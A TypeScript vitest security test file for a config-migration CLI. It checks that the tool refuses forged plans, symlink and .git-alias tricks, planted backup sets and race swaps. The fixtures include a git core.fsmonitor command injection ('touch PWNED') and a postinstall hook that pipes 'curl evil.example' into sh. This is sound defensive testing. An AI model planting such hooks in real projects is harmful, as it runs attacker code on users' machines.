// Issue 13: a repository or a plan attacks whoever runs apply or rollback. Each case is an attack that worked on the
// build before it; the plans are forged the way an attacker would (valid hashes and diff), so only the new checks stop them.
import { execFileSync, spawnSync } from 'node:child_process';
import { createHash } from 'node:crypto';
import { chownSync, cpSync, existsSync, mkdirSync, readdirSync, readFileSync, renameSync, rmSync, statSync, symlinkSync, writeFileSync } from 'node:fs';
import { basename, join, relative } from 'node:path';
import { afterEach, describe, expect, it } from 'vitest';
import { missing } from '../support/skip.js';
import { tempDir } from '../support/temp.js';
import { scan } from '../../src/detect/scan.js';
import type { Edit, Plan } from '../../src/model/plan.js';
import { parserFor } from '../../src/parsers/registry.js';
import { applyPlan, DuplicateEdit } from '../../src/plan/apply.js';
import { latestApplied, listBackups } from '../../src/plan/backups.js';
import { reviewDiff } from '../../src/plan/diff.js';
import { testHooks } from '../../src/plan/faults.js';
import { pickBackup, rollback } from '../../src/plan/rollback.js';
import { Refusal } from '../../src/plan/safety.js';
import { repoRoot } from '../support/golden.js';
import { copyFixture, planFor, treeHashes } from '../support/plan-helpers.js';

const cli = join(repoRoot, 'dist', 'cli', 'index.js');
const opts = { planSha256: 'test' };
const isRoot = process.getuid?.() === 0;
const sha = (b: string | Buffer) => createHash('sha256').update(b).digest('hex');
const run = (cwd: string, args: string[], env: Record<string, string> = {}) => spawnSync(process.execPath, [cli, ...args], { cwd, encoding: 'utf8', env: { ...process.env, NO_COLOR: '1', ...env }, timeout: 60_000 });

afterEach(() => {
  delete testHooks.beforeRename;
  delete process.env.ADO2ENTRA_FAULT;
});

/** An edit that replaces a whole file, consistent with it (hashes, changes, diff): what an attacker can write. */
function forgeEdit(root: string, file: string, after: string): Edit {
  const before = readFileSync(join(root, ...file.split('/')), 'utf8');
  const changes = [{ start: 0, end: before.length, text: after }];
  const settings = parserFor(file)?.parse(before, file).settings ?? [];
  return { file, sha256Before: sha(before), sha256After: sha(after), encoding: 'utf8', diff: reviewDiff(file, before, changes, settings), changes, reasons: ['forged'] };
}

function forgedPlan(root: string, edits: Edit[]): Plan {
  return { ...planFor(copyFixture('node-express')), root, edits };
}

function gitRepo(dir: string): (...args: string[]) => string {
  const git = (...args: string[]) => execFileSync('git', ['-c', 'user.email=t@example.com', '-c', 'user.name=t', ...args], { cwd: dir, encoding: 'utf8', stdio: ['ignore', 'pipe', 'pipe'] });
  git('init', '-q');
  return git;
}

function commitAll(git: (...args: string[]) => string): void {
  git('add', '-A');
  git('commit', '-qm', 'attacker');
}

function expectRefused(fn: () => unknown, message: RegExp): void {
  expect(fn).toThrow(Refusal);
  expect(fn).toThrow(message);
}

describe('1. the plan does not choose where apply writes', () => {
  it('a plan whose root is ../victim is refused (exit 2), naming both folders; the victim is untouched', () => {
    const victim = copyFixture('node-express');
    const attacker = tempDir('attacker');
    const before = treeHashes(victim);
    const plan = { ...planFor(victim), root: relative(attacker, victim) };
    expect(plan.root.startsWith('..')).toBe(true);
    writeFileSync(join(attacker, 'plan.json'), JSON.stringify(plan));
    const r = run(attacker, ['apply', 'plan.json']);
    expect(r.status).toBe(2);
    expect(r.stderr).toContain(victim);
    expect(r.stderr).toContain(attacker);
    expect(treeHashes(victim)).toEqual(before);
    expect(existsSync(join(victim, '.ado2entra'))).toBe(false);
  }, 60_000);

  it('a plan whose root is / and edits tmp/…/secret.txt is refused', () => {
    const victim = tempDir('victim');
    writeFileSync(join(victim, 'secret.txt'), 'keep me\n');
    const attacker = tempDir('attacker');
    const file = relative('/', join(victim, 'secret.txt'));
    writeFileSync(join(attacker, 'plan.json'), JSON.stringify(forgedPlan('/', [forgeEdit('/', file, 'owned\n')])));
    const r = run(attacker, ['apply', 'plan.json', '--allow-dirty']);
    expect(r.status).toBe(2);
    expect(r.stderr).toMatch(/the plan was made for "\/" but apply runs in/);
    expect(readFileSync(join(victim, 'secret.txt'), 'utf8')).toBe('keep me\n');
  }, 60_000);

  it('--root names the folder; the plan made there applies', () => {
    const dir = copyFixture('node-express');
    const parent = join(dir, '..');
    writeFileSync(join(parent, `${basename(dir)}.plan.json`), JSON.stringify(planFor(dir)));
    expect(run(parent, ['apply', `${basename(dir)}.plan.json`]).status).toBe(2);
    const r = run(parent, ['apply', `${basename(dir)}.plan.json`, '--root', basename(dir)]);
    expect(r.status, r.stderr).toBe(0);
    expect(r.stdout).toContain(`--root ${basename(dir)}`);
  }, 60_000);
});

describe('2. no write through a symlinked folder or into a git directory', () => {
  it('a committed cfg -> .git and an edit of cfg/config (core.fsmonitor) is refused; .git/config is unchanged', () => {
    const dir = tempDir('gitlink');
    const git = gitRepo(dir);
    writeFileSync(join(dir, 'README.md'), 'hi\n');
    symlinkSync('.git', join(dir, 'cfg'));
    commitAll(git);
    const config = readFileSync(join(dir, '.git', 'config'), 'utf8');
    const plan = forgedPlan(dir, [forgeEdit(dir, 'cfg/config', `${config}\tfsmonitor = "touch PWNED"\n`)]);
    expectRefused(() => applyPlan(plan, dir, opts), /cfg is a symlink \(into a git directory\)/);
    expect(readFileSync(join(dir, '.git', 'config'), 'utf8')).toBe(config);
    expect(existsSync(join(dir, '.ado2entra'))).toBe(false);
  });

  it('a symlinked folder inside the root is refused too (no symlinked component anywhere)', () => {
    const dir = tempDir('innerlink');
    mkdirSync(join(dir, 'real'));
    writeFileSync(join(dir, 'real', 'app.env'), 'A=1\n');
    symlinkSync('real', join(dir, 'conf'));
    expectRefused(() => applyPlan(forgedPlan(dir, [forgeEdit(dir, 'conf/app.env', 'A=2\n')]), dir, opts), /conf is a symlink \(to real\)/);
    expect(readFileSync(join(dir, 'real', 'app.env'), 'utf8')).toBe('A=1\n');
  });

  it('a git directory under another name (a bare repository in the tree, the target of a gitfile) is refused', () => {
    const dir = tempDir('bare');
    execFileSync('git', ['init', '-q', '--bare', join(dir, 'modules', 'sub')]);
    mkdirSync(join(dir, 'sub'));
    writeFileSync(join(dir, 'sub', '.git'), 'gitdir: ../modules/sub\n');
    const config = readFileSync(join(dir, 'modules', 'sub', 'config'), 'utf8');
    expectRefused(() => applyPlan(forgedPlan(dir, [forgeEdit(dir, 'modules/sub/config', `${config}\tfsmonitor = "touch PWNED"\n`)]), dir, opts), /inside a git directory \(modules\/sub\)/);
    expect(readFileSync(join(dir, 'modules', 'sub', 'config'), 'utf8')).toBe(config);
  });

  it('names macOS or Windows take for .git (`.git.`, `.git `, `git~1`, `.git::$INDEX_ALLOCATION`, ignorable Unicode) are refused', () => {
    const dir = tempDir('dotgit-alias');
    // on HFS+ `.g\u200cit` is `.git`; on NTFS trailing dots and spaces go, `git~1` is its short name: a plan made for a
    // Linux checkout must not write a gitfile (gitdir: → a config with core.fsmonitor) on the reviewer's Mac or PC
    const names = ['sub/.git.', 'sub/.git ', 'sub/.GIT..', 'sub/.g\u200cit', 'sub/.g\ufeffit', 'git~1/config', '.git::$INDEX_ALLOCATION/config', '.ado2entra./backups/x'];
    const edits = names.map((name) => {
      mkdirSync(join(dir, ...name.split('/').slice(0, -1)), { recursive: true });
      writeFileSync(join(dir, ...name.split('/')), 'gitdir: ../modules/sub\n');
      return forgeEdit(dir, name, 'gitdir: ../evil\n');
    });
    edits.push(forgeEdit(dir, 'sub/.git.', 'x'), forgeEdit(dir, 'sub/.git.', 'x'));
    edits.at(-2)!.file = '.. /sub/.git.';
    edits.at(-1)!.file = 'sub/.../.git.';
    for (const edit of edits) {
      expectRefused(() => applyPlan(forgedPlan(dir, [edit]), dir, opts), /refusing to write inside \.git|refusing to write inside \.ado2entra|leaves the root/);
    }
    for (const name of names) expect(readFileSync(join(dir, ...name.split('/')), 'utf8')).toBe('gitdir: ../modules/sub\n');
  });

  it('a file in a submodule work tree (beside its gitfile) is still written', () => {
    const dir = tempDir('submodule');
    execFileSync('git', ['init', '-q', '--bare', join(dir, '.git-modules', 'sub')]);
    mkdirSync(join(dir, 'sub'));
    writeFileSync(join(dir, 'sub', '.git'), 'gitdir: ../.git-modules/sub\n');
    writeFileSync(join(dir, 'sub', 'app.env'), 'A=1\n');
    expect(applyPlan(forgedPlan(dir, [forgeEdit(dir, 'sub/app.env', 'A=2\n')]), dir, opts).applied).toEqual(['sub/app.env']);
  });
});

describe('4. rollback restores only a backup set it can show it made', () => {
  /** A set an attacker commits: journal `applying`, and a package.json of theirs as the "original". */
  function plantSet(dir: string, id = '20991231T235959999Z-000001'): string {
    writeFileSync(join(dir, 'package.json'), '{ "name": "app" }\n');
    const set = join(dir, '.ado2entra', 'backups', id);
    mkdirSync(join(set, 'files'), { recursive: true });
    const evil = '{ "scripts": { "postinstall": "curl evil.example | sh" } }\n';
    writeFileSync(join(set, 'files', 'package.json'), evil);
    const current = readFileSync(join(dir, 'package.json'));
    writeFileSync(join(set, 'journal.json'), JSON.stringify({ version: 1, id, createdAt: '2099-12-31T23:59:59.999Z', planSha256: 'x', state: 'applying', files: [{ file: 'package.json', sha256Before: sha(evil), sha256After: sha(current), mode: 0o644 }], mac: 'a'.repeat(64) }));
    return id;
  }

  it('a committed set: apply does not send the user to roll it back, and rollback refuses it (tracked in git)', () => {
    const dir = copyFixture('node-express');
    const git = gitRepo(dir);
    const id = plantSet(dir);
    commitAll(git);
    const pkg = readFileSync(join(dir, 'package.json'));
    expectRefused(() => rollback(dir, pickBackup(dir, id)!), /not made by ado2entra for you here.*tracked or added in git/);
    expect(readFileSync(join(dir, 'package.json'))).toEqual(pkg);
    const applied = applyPlan(planFor(dir), dir, opts);
    expect(applied.applied.length).toBeGreaterThan(0);
    const r = run(dir, ['rollback', id]);
    expect(r.status).toBe(1);
    expect(r.stderr).toMatch(/tracked or added in git/);
    expect(readFileSync(join(dir, 'package.json'))).toEqual(pkg);
  }, 60_000);

  it('an untracked planted set fails the integrity check (its HMAC is not made with this user\'s key)', { timeout: 60_000 }, () => {
    const dir = copyFixture('node-express');
    const id = plantSet(dir);
    expectRefused(() => rollback(dir, pickBackup(dir, id)!), /fails the integrity check/);
    expectRefused(() => pickBackup(dir, undefined), /fails the integrity check/);
    const listed = run(dir, ['rollback', '--list']);
    expect(listed.stderr).toContain(`warning: backup set ${id} was not made by ado2entra for you here`);
    // once the user has applied, plain rollback takes their set and passes over the planted (later-named) one
    applyPlan(planFor(dir), dir, opts);
    const r = run(dir, ['rollback']);
    expect(r.status, r.stderr).toBe(0);
    expect(r.stderr).toContain(`backup set ${id} passed over`);
  });

  it('verify never takes its legacy baseline from a planted set', () => {
    const dir = copyFixture('node-express');
    const id = plantSet(dir, '20991231T235959999Z-000001');
    const journal = join(dir, '.ado2entra', 'backups', id, 'journal.json');
    writeFileSync(journal, readFileSync(journal, 'utf8').replace('"applying"', '"applied"'));
    expect(latestApplied(dir)).toBeNull();
    const ours = applyPlan(planFor(dir), dir, opts).backupId;
    expect(latestApplied(dir)?.id).toBe(ours);
  });

  it('a set made for this user is refused where there is no key (another user or machine)', () => {
    const dir = copyFixture('node-express');
    applyPlan(planFor(dir), dir, opts);
    const journal = pickBackup(dir, undefined)!;
    const saved = process.env.ADO2ENTRA_STATE_DIR;
    process.env.ADO2ENTRA_STATE_DIR = tempDir('other-user');
    try {
      expectRefused(() => rollback(dir, journal), /no backup key for this user/);
    } finally {
      process.env.ADO2ENTRA_STATE_DIR = saved;
    }
    expect(rollback(dir, journal).restored.length).toBe(1);
  });

  it('a journal edited after the apply fails the integrity check', () => {
    const dir = copyFixture('node-express');
    applyPlan(planFor(dir), dir, opts);
    const journal = pickBackup(dir, undefined)!;
    const path = join(dir, '.ado2entra', 'backups', journal.id, 'journal.json');
    writeFileSync(path, readFileSync(path, 'utf8').replace('"applied"', '"applying"'));
    expectRefused(() => rollback(dir, pickBackup(dir, undefined)!), /fails the integrity check/);
  });

  it('a set of ours copied into another folder (its valid-looking MAC made for the first) is refused there', () => {
    const first = copyFixture('node-express');
    writeFileSync(join(first, '.env.example'), `${readFileSync(join(first, '.env.example'), 'utf8')}OTHER_REPO_ONLY=1\n`);
    applyPlan(planFor(first), first, opts);
    const other = copyFixture('node-express');
    cpSync(join(first, '.ado2entra'), join(other, '.ado2entra'), { recursive: true });
    rmSync(join(other, '.env.example'));
    const journal = pickBackup(first, undefined)!;
    expectRefused(() => rollback(other, journal), /fails the integrity check.*for this folder/);
    expect(existsSync(join(other, '.env.example'))).toBe(false);
    expect(latestApplied(other)).toBeNull();
    expect(rollback(first, journal).restored).toEqual(['.env.example']);
  });

  it.skipIf(missing(!isRoot, 'not root: another user\'s files cannot be made; these ownership tests run as root (CI does)'))('a set owned by another user is refused', () => {
    const dir = copyFixture('node-express');
    applyPlan(planFor(dir), dir, opts);
    const journal = pickBackup(dir, undefined)!;
    chownSync(join(dir, '.ado2entra', 'backups', journal.id, 'journal.json'), 1234, 1234);
    expectRefused(() => rollback(dir, journal), /journal\.json belongs to another user \(uid 1234\)/);
  });

  it('a committed symlink .ado2entra -> ../x: apply keeps no backups there and writes nothing; rollback refuses', () => {
    const dir = copyFixture('node-express');
    const outside = tempDir('x');
    symlinkSync(outside, join(dir, '.ado2entra'));
    const before = treeHashes(dir);
    expectRefused(() => applyPlan(planFor(dir), dir, opts), /\.ado2entra is a symlink: refusing to keep backups/);
    expect(treeHashes(dir)).toEqual(before);
    expect(readdirSync(outside)).toEqual([]);
    // a set the apply did make, reached later through a swapped-in symlink
    const other = copyFixture('node-express');
    applyPlan(planFor(other), other, opts);
    const journal = pickBackup(other, undefined)!;
    renameSync(join(other, '.ado2entra'), join(outside, 'moved'));
    symlinkSync(join(outside, 'moved'), join(other, '.ado2entra'));
    expectRefused(() => rollback(other, journal), /\.ado2entra is a symlink/);
  });
});

describe('5. a folder swapped for a symlink between the checks and the rename', () => {
  it('is noticed right before the rename: nothing is written outside, the apply is undone', () => {
    const dir = tempDir('race');
    const outside = tempDir('race-outside');
    mkdirSync(join(dir, 'svc'));
    writeFileSync(join(dir, 'svc', 'app.env'), 'A=1\n');
    writeFileSync(join(outside, 'app.env'), 'A=1\n');
    testHooks.beforeRename = () => {
      renameSync(join(dir, 'svc'), join(dir, 'svc.moved'));
      symlinkSync(outside, join(dir, 'svc'));
    };
    const plan = forgedPlan(dir, [forgeEdit(dir, 'svc/app.env', 'A=2\n')]);
    let error: unknown;
    try {
      applyPlan(plan, dir, opts);
    } catch (err) {
      error = err;
    }
    expect(error).toBeInstanceOf(Refusal);
    expect((error as Error).message).toMatch(/svc\/app\.env \(its folder now resolves to .* \(changed during the apply\)\)/);
    expect(readdirSync(outside)).toEqual(['app.env']);
    expect(readFileSync(join(outside, 'app.env'), 'utf8')).toBe('A=1\n');
    expect(readdirSync(join(dir, 'svc.moved'))).toEqual(['app.env']); // no temp file left behind either
    expect(listBackups(dir).journals[0]!.state).toBe('failed');
  });
});

describe('11. the dirty-tree check fails closed', () => {
  function dirtyRepo(): string {
    const dir = copyFixture('helm-values');
    const git = gitRepo(dir);
    writeFileSync(join(dir, 'README.md'), 'notes\n');
    commitAll(git);
    writeFileSync(join(dir, 'README.md'), 'notes, edited\n');
    return dir;
  }

  it('a repository git cannot read (a broken HEAD) is refused with git\'s message, unless --allow-dirty', () => {
    const dir = dirtyRepo();
    const plan = planFor(dir);
    writeFileSync(join(dir, '.git', 'HEAD'), 'garbage\n');
    expectRefused(() => applyPlan(plan, dir, opts), /cannot check the git work tree.*git said: fatal: not a git repository.*--allow-dirty/);
    expect(existsSync(join(dir, '.ado2entra'))).toBe(false);
    expect(applyPlan(plan, dir, { ...opts, allowDirty: true }).applied).toEqual(['values.yaml']);
  });

  it.skipIf(missing(!isRoot, 'not root: another user\'s files cannot be made; these ownership tests run as root (CI does)'))('"dubious ownership" is refused with git\'s message', () => {
    const dir = dirtyRepo();
    const plan = planFor(dir);
    chownSync(dir, 1234, 1234);
    expectRefused(() => applyPlan(plan, dir, opts), /git said: .*dubious ownership/);
    expect(existsSync(join(dir, '.ado2entra'))).toBe(false);
  });

  it('git missing from PATH inside a repository is refused (exit 1)', () => {
    const dir = dirtyRepo();
    writeFileSync(join(dir, 'plan.json'), JSON.stringify(planFor(dir)));
    const r = run(dir, ['apply', 'plan.json'], { PATH: '/nonexistent' });
    expect(r.status).toBe(1);
    expect(r.stderr).toMatch(/git did not run \(ENOENT\)/);
  }, 60_000);
});

describe('13. two edits of one file', () => {
  it('are refused as a malformed plan (exit 2) before any backup folder exists', () => {
    const dir = copyFixture('node-express');
    const plan = planFor(dir);
    plan.edits.push(structuredClone(plan.edits[0]!));
    expect(() => applyPlan(plan, dir, opts)).toThrow(DuplicateEdit);
    writeFileSync(join(dir, '..', `${basename(dir)}.dup.json`), JSON.stringify(plan));
    const r = run(dir, ['apply', join('..', `${basename(dir)}.dup.json`)]);
    expect(r.status).toBe(2);
    expect(r.stderr).toMatch(/one edit per file/);
    expect(existsSync(join(dir, '.ado2entra'))).toBe(false);
  }, 60_000);
});

describe('14. SIGKILL with a temp file on disk', () => {
  it('rollback removes the temp file the killed apply left; so does a re-run apply', () => {
    for (const cleanup of [['rollback'], ['apply', 'PLAN']]) {
      const dir = copyFixture('ruby-toml-tool');
      const before = treeHashes(dir);
      const planPath = join(dir, '..', `${basename(dir)}.plan.json`);
      writeFileSync(planPath, JSON.stringify(planFor(dir)));
      const killed = run(dir, ['apply', planPath], { ADO2ENTRA_FAULT: 'kill-before-rename:1' });
      expect(killed.signal).toBe('SIGKILL');
      const temps = () => Object.keys(treeHashes(dir)).filter((f) => /\.ado2entra-\d+-\d+\.tmp$/.test(f));
      expect(temps()).toHaveLength(1);
      const r = run(dir, cleanup.map((a) => (a === 'PLAN' ? planPath : a)));
      expect(r.status, r.stderr).toBe(cleanup[0] === 'rollback' ? 0 : 1);
      expect(temps()).toEqual([]);
      expect(treeHashes(dir)).toEqual(before);
    }
  }, 120_000);
});

describe('18. a committed symlink to a file outside the root', () => {
  it('is listed as skipped, never read: not in the findings, not in the plan', () => {
    const outside = tempDir('linked');
    writeFileSync(join(outside, '.env'), 'VSTS_AUTH_URL=https://app.vssps.visualstudio.com/oauth2/authorize\nVSTS_CLIENT_ID=00000000-1111-4222-8333-444444444444\nVSTS_CLIENT_SECRET=outside-secret-value\n');
    const dir = copyFixture('node-express');
    const git = gitRepo(dir);
    symlinkSync(join(outside, '.env'), join(dir, 'leak.env'));
    commitAll(git);
    const result = scan(dir);
    expect(result.findings.filter((f) => f.file === 'leak.env')).toEqual([]);
    expect(result.skipped).toContainEqual({ file: 'leak.env', reason: 'symlink to outside the scanned folder' });
    expect(planFor(dir).edits.map((e) => e.file)).not.toContain('leak.env');
    expect(statSync(join(outside, '.env')).size).toBeGreaterThan(0);
  });
});
